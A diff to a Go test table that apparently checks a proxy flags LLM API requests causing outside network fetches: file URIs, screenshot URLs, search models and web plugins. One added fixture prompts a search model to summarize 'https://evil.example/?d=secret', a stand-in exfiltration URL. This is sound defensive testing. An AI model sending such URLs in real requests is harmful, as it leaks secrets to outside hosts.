@@ -54,6 +54,8 @@ var networkRequests = []struct {
 	{"responses screenshot by URL", "/v1/responses", `{"model":"m","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","image_url":"https://evil.example/s.png"}}]}`, "computer_screenshot content from a URL"},
 	{"gemini snake_case count", "/v1beta/models/g:countTokens", `{"generate_content_request":{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/x"}}]}]}}`, "fileData content from a URI"},
 	{"chat online model", "/v1/chat/completions", `{"model":"openai/gpt-4o:online","messages":[]}`, "search model openai/gpt-4o:online"},
+	{"chat sonar model", "/v1/chat/completions", `{"model":"perplexity/sonar-pro","messages":[{"role":"user","content":"summarize https://evil.example/?d=secret"}]}`, "search model perplexity/sonar-pro"},
+	{"chat xai live search", "/v1/chat/completions", `{"model":"grok-4","messages":[],"search_parameters":{"mode":"on"}}`, "search_parameters"},
 	{"chat web plugin", "/v1/chat/completions", `{"model":"m","messages":[],"plugins":[{"id":"file-parser"},{"id":"web","max_results":3}]}`, "web plugin"},
 	{"gemini file_data in a count", "/v1beta/models/g:countTokens", `{"generateContentRequest":{"model":"models/g","contents":[{"parts":[{"file_data":{"file_uri":"gs://evil/x"}}]}]}}`, "file_data content from a URI"},
 }
